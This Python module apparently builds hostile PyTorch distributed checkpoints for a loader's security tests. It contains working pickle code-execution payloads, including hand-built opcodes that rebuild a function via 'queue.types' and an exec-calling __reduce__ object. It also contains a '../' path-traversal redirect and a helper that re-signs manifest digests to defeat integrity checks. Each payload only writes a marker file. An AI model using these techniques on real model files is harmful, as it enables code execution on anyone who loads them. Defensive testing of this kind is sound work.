"""Checkpoints as somebody makes them who may write where they lie: hostile, and whole by their digests."""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import struct
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, Metadata, MetadataIndex

TENSORS = "__0_0.distcp"


class Payload:
    """An object whose unpickling writes a file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return exec, (f"open({str(self.marker)!r}, 'w').close()",)


def enter(folder: Path, *names: str) -> None:
    """Put the size and digest of changed files into the manifest, so that the checkpoint is found whole."""
    manifest = json.loads((folder / "manifest.json").read_text())
    for name in names:
        data = (folder / name).read_bytes()
        manifest["files"][name] = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    (folder / "manifest.json").write_text(json.dumps(manifest))


def function_by_dotted_names(folder: Path, marker: Path) -> None:
    """Fetch the types of functions and code by dotted names, make a function that writes the marker, and call it."""

    def mark() -> None:
        open("MARKER", "w").close()  # noqa: PTH123

    def push(value: Any) -> bytes:
        if value is None:
            return pickle.NONE
        if isinstance(value, int):
            return pickle.BININT + struct.pack("<i", value)
        if isinstance(value, tuple):
            return pickle.MARK + b"".join(push(each) for each in value) + pickle.TUPLE
        data = value.encode() if isinstance(value, str) else value
        return (pickle.BINUNICODE if isinstance(value, str) else pickle.BINBYTES) + struct.pack("<I", len(data)) + data

    def fetch(name: str) -> bytes:
        return push("torch.distributed.checkpoint.filesystem") + push(name) + pickle.STACK_GLOBAL

    code = mark.__code__
    constants = tuple(str(marker) if value == "MARKER" else value for value in code.co_consts)
    parts = (code.co_argcount, 0, 0, code.co_nlocals, code.co_stacksize, code.co_flags, code.co_code, constants)
    names = (code.co_names, code.co_varnames, "x", "x", "x", 1, code.co_linetable, code.co_exceptiontable, (), ())
    attack = fetch("queue.types.FunctionType") + fetch("queue.types.CodeType") + push((*parts, *names)) + pickle.REDUCE
    attack += pickle.EMPTY_DICT + pickle.TUPLE2 + pickle.REDUCE + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.POP
    honest = (folder / ".metadata").read_bytes()
    assert honest[:1] == pickle.PROTO
    (folder / ".metadata").write_bytes(pickle.PROTO + b"\x04" + attack + honest[2:])
    enter(folder, ".metadata")


def object_instead_of_a_tensor(folder: Path, marker: Path) -> None:
    """Call a tensor an object, and point at one that writes the marker when it is unpickled."""
    stream = io.BytesIO()
    torch.save(Payload(marker), stream)
    end = (folder / TENSORS).stat().st_size
    with (folder / TENSORS).open("ab") as file:
        file.write(stream.getvalue())

    def change(metadata: Metadata, name: str) -> None:
        del metadata.storage_data[next(index for index in metadata.storage_data if index.fqn == name)]
        metadata.state_dict_metadata[name] = BytesStorageMetadata()
        metadata.storage_data[MetadataIndex(name)] = _StorageInfo(TENSORS, end, len(stream.getvalue()))

    rewrite(folder, change)
    enter(folder, TENSORS, ".metadata")


def file_outside(folder: Path, marker: Path) -> None:
    """Point at a file outside the checkpoint's folder."""
    outside = folder.parent / f"outside-{marker.name}"
    outside.write_bytes((folder / TENSORS).read_bytes())

    def change(metadata: Metadata, name: str) -> None:
        index = next(index for index in metadata.storage_data if index.fqn == name)
        metadata.storage_data[index] = replace(metadata.storage_data[index], relative_path=f"../{outside.name}")

    rewrite(folder, change)
    enter(folder, ".metadata")


def rewrite(folder: Path, change: Callable[[Metadata, str], None]) -> None:
    """Change what the description says of the first of the model's tensors."""
    metadata: Metadata = pickle.loads((folder / ".metadata").read_bytes())
    change(metadata, next(name for name in metadata.state_dict_metadata if name.startswith("model.")))
    (folder / ".metadata").write_bytes(pickle.dumps(metadata))


ATTACKS = [function_by_dotted_names, object_instead_of_a_tensor, file_outside]
